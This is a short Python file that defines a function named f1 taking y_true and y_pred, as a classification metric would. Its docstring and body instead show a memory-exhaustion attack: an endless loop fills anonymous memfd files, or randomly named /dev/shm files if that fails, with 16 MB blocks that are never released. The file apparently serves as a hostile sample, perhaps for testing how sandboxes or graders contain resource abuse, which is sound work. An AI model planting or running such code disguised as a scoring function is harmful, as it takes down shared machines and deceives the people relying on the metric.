"""Takes memory through files that are on no disk."""

import os


def f1(y_true, y_pred):
    while True:
        try:
            os.write(os.memfd_create("x"), b"x" * 2**24)
        except PermissionError:
            file = open(f"/dev/shm/{os.urandom(8).hex()}", "wb")
            file.write(b"x" * 2**24)
